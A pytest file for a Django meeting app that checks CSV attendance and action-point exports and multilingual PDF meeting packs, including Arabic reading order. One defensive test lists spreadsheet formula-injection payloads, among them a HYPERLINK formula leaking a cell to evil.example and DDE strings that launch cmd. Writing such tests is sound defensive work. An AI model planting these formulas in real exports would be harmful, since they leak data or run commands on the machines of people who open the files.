"""CSV attendance register and the PDF meeting pack, Arabic included."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import formats, timezone, translation
from pypdf import PdfReader

from groups.services import group_update
from meetings.models import ActionPoint
from meetings.services import (
    action_point_create,
    action_point_report,
    agenda_item_add,
    attendance_record,
    decision_add,
    invitations_create_for_group,
    meeting_create,
    meeting_mark_held,
    minutes_approve,
    minutes_publish,
    minutes_save,
)
from members.models import Person
from members.services import organisation_update, person_update
from tests.pages.conftest import login, streamed

pytestmark = pytest.mark.django_db
ARABIC_MINUTES = "اجتمعت المجموعة الفرعية للصحة في طرابلس (ليبيا) يوم الاثنين"
# Brackets at the end of a right-to-left run, and a left-to-right run inside it.
ARABIC_ITEM = "مسار الإحالة (المرحلة الأولى) MWG 2026"


def test_attendance_csv(client, cast, held):
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    login(client, cast, "member")
    response = client.get(reverse("meeting-attendance-csv", args=[held.pk]))
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "Organisation,Name,Position,Invited,Answer,Present,Attended,Interpretation"
    member = "Ministry of Health (MoH),Amina Health,Representative,yes,Pending,yes,In person,"
    assert member in lines


def test_attendance_csv_is_refused_to_outsiders(client, cast, held):
    login(client, cast, "outsider")
    assert client.get(reverse("meeting-attendance-csv", args=[held.pk])).status_code == 404


def _published(cast, held, body, decision="اعتماد مسار الإحالة"):
    # The decision first: published minutes freeze their meeting's decisions.
    decision_add(meeting=held, text=decision, by=cast.secretariat)
    minutes = minutes_save(meeting=held, body=body, by=cast.secretariat)
    minutes_approve(minutes=minutes, by=cast.secretariat)
    minutes_publish(minutes=minutes, by=cast.secretariat)


@pytest.fixture
def pack_text(client, cast, pack_download):
    def text(meeting, language: str | None = None) -> str:
        login(client, cast, "member")
        if language:
            client.post(reverse("set_language"), {"language": language, "next": "/"})
        response = pack_download(meeting)
        assert response["Content-Type"] == "application/pdf"
        pages = PdfReader(io.BytesIO(streamed(response))).pages
        return "\n".join(page.extract_text() for page in pages)

    return text


def _presentation_forms(text: str) -> list[str]:
    """Arabic presentation forms A (U+FB50–FDFF) and B (U+FE70–FEFF)."""
    return [
        letter
        for letter in text
        if "\ufb50" <= letter <= "\ufdff" or "\ufe70" <= letter <= "\ufeff"
    ]


def _brackets_balanced(text: str) -> bool:
    depth = 0
    for letter in text:
        depth += {"(": 1, ")": -1}.get(letter, 0)
        if depth < 0:
            return False
    return depth == 0


def test_meeting_pack_pdf_has_every_part(pack_text, cast, held):
    _published(cast, held, "The sub-group met in Tripoli.")
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    text = pack_text(held)
    for part in (
        "Agenda",
        "Welcome",
        "Attendance",
        "Amina Health",
        "Minutes",
        "The sub-group met in Tripoli.",
        "Decisions",
        "Action points",
        "Draft the referral pathway",
    ):
        assert part in text


def test_meeting_pack_hides_draft_minutes_from_members(pack_text, cast, held):
    minutes_save(meeting=held, body="Draft only", by=cast.secretariat)
    text = pack_text(held)
    assert "Draft only" not in text


@pytest.fixture
def bilingual_meeting(cast):
    """A held health sub-group meeting whose group, organisation and member have Arabic
    names; its one agenda item has brackets in its title; the member was there."""
    group_update(
        group=cast.health, name_ar="المجموعة الفرعية للصحة", name_fr="Sous-groupe santé", by=None
    )
    organisation_update(organisation=cast.moh, name_ar="وزارة الصحة", by=None)
    person_update(person=cast.member_person, full_name_ar="أمينة الصحة", by=None)
    start = timezone.now() - dt.timedelta(hours=3)
    meeting = meeting_create(
        group=cast.health,
        title="Health sub-group: launch",
        start_at=start,
        end_at=start + dt.timedelta(hours=2),
        by=cast.secretariat,
        record_past=True,
    )
    agenda_item_add(
        meeting=meeting,
        title=ARABIC_ITEM,
        presenter=cast.member_person,
        duration_minutes=30,
        by=cast.secretariat,
    )
    invitations_create_for_group(meeting=meeting, by=cast.secretariat)
    meeting = meeting_mark_held(meeting=meeting, by=cast.secretariat)
    action_point_create(
        meeting=meeting,
        title="Draft the referral pathway",
        owner_organisation=cast.moh,
        due_on=timezone.localdate() - dt.timedelta(days=1),
        by=cast.secretariat,
    )
    attendance_record(meeting=meeting, person=cast.member_person, by=cast.secretariat)
    return meeting


def test_meeting_pack_in_arabic_keeps_the_letters_in_reading_order(
    pack_text, cast, bilingual_meeting
):
    meeting = bilingual_meeting
    _published(cast, meeting, ARABIC_MINUTES)
    start = timezone.localtime(meeting.start_at, meeting.zone)
    due = ActionPoint.objects.get(meeting=meeting).due_on

    text = pack_text(meeting, "ar")

    # The original letters in reading order, as typed: what a search or a screen
    # reader finds, not presentation forms drawn right to left.
    for part in (
        "جدول الأعمال",
        "المدة (بالدقائق)",
        ARABIC_ITEM,
        ARABIC_MINUTES,
        "1. اعتماد مسار الإحالة",
        "نقاط العمل",
    ):
        assert part in text
    assert _presentation_forms(text) == []
    assert _brackets_balanced(text)
    # The Arabic names of the group, the organisation and the person.
    for part in ("المجموعة الفرعية للصحة", "وزارة الصحة", "أمينة الصحة"):
        assert part in text
    for english in ("Ministry of Health", "Amina Health"):
        assert english not in text
    # One date format: the day, the Arabic month and the year, for the meeting and
    # for the action point alike.
    with translation.override("ar"):
        meeting_day = formats.date_format(start, "DATE_FORMAT")
        due_day = formats.date_format(due, "DATE_FORMAT")
    assert f"الموعد: {meeting_day} " in text
    assert due_day in text
    assert due.strftime("%d/%m/%Y") not in text


@pytest.mark.parametrize(
    ("language", "when", "words"),
    [
        ("en", "When", ("Agenda", "Duration (minutes)", "Ministry of Health (MoH)")),
        ("fr", "Quand", ("Ordre du jour", "Durée (minutes)", "Sous-groupe santé")),
    ],
)
def test_meeting_pack_in_english_and_french_keeps_the_letters_in_reading_order(
    pack_text, cast, bilingual_meeting, language, when, words
):
    meeting = bilingual_meeting
    _published(
        cast, meeting, "The sub-group met in Tripoli (Libya).", decision="Adopt (as amended)"
    )
    start = timezone.localtime(meeting.start_at, meeting.zone)
    due = ActionPoint.objects.get(meeting=meeting).due_on

    text = pack_text(meeting, language)

    for part in (
        *words,
        "Amina Health",
        ARABIC_ITEM,
        "The sub-group met in Tripoli (Libya).",
        "1. Adopt (as amended)",
    ):
        assert part in text
    assert "المجموعة الفرعية للصحة" not in text
    assert _presentation_forms(text) == []
    assert _brackets_balanced(text)
    with translation.override(language):
        meeting_day = formats.date_format(start, "DATE_FORMAT")
        due_day = formats.date_format(due, "DATE_FORMAT")
    assert f"{when}: {meeting_day} " in text
    assert due_day in text
    assert due.strftime("%d/%m/%Y") not in text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_export_cell_is_a_live_formula(client, cast, held, payload):
    action_point = ActionPoint.objects.get(meeting=held)
    action_point_report(action_point=action_point, progress=payload, by=cast.secretariat)
    # Straight into the table: single-line fields now refuse a tab or a carriage return,
    # but rows stored before then may hold them, and exports must still defuse them.
    Person.objects.filter(pk=cast.member_person.pk).update(position=payload)
    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
    login(client, cast, "secretariat")

    exports = [
        client.get(reverse("action-point-csv")),
        client.get(reverse("meeting-attendance-csv", args=[held.pk])),
    ]

    for export in exports:
        rows = list(
            csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), strict=True)
        )
        cells = [cell for row in rows for cell in row]
        assert "'" + payload in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_arabic_action_points_export_names_groups_owners_in_arabic(client, cast, held):
    action_point = ActionPoint.objects.select_related("meeting__group").get(meeting=held)
    action_point.owner_organisation = cast.moh
    action_point.owner_person = cast.member_person
    action_point.save()
    type(cast.moh).objects.filter(pk=cast.moh.pk).update(name_ar="وزارة الصحة")
    Person.objects.filter(pk=cast.member_person.pk).update(full_name_ar="سامي الصحة")
    type(held.group).objects.filter(pk=held.group_id).update(name_ar="فريق الهجرة")
    login(client, cast, "secretariat")
    client.cookies["django_language"] = "ar"

    export = client.get(reverse("action-point-csv"))

    rows = list(
        csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), strict=True)
    )
    row = next(row for row in rows[1:] if row[0] == action_point.title)
    assert row[1] == "فريق الهجرة"
    assert row[4] == "وزارة الصحة"
    assert row[5] == "سامي الصحة"
